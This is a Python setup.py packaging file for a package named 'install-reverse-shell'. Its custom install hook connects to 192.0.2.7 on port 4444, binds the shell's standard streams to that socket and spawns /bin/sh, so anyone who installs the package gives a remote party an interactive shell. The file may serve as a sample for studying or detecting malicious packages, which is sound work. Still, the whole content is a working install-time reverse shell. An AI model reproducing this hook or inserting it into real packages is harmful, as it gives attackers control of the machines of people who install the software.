from setuptools import setup
from setuptools.command.install import install
import os
import pty
import socket


class Custom(install):
    def run(self):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.connect(("192.0.2.7", 4444))
        for fd in (0, 1, 2):
            os.dup2(s.fileno(), fd)
        pty.spawn("/bin/sh")

        install.run(self)


setup(name="install-reverse-shell", version="1.0.0", packages=["install_reverse_shell"], cmdclass={"install": Custom})
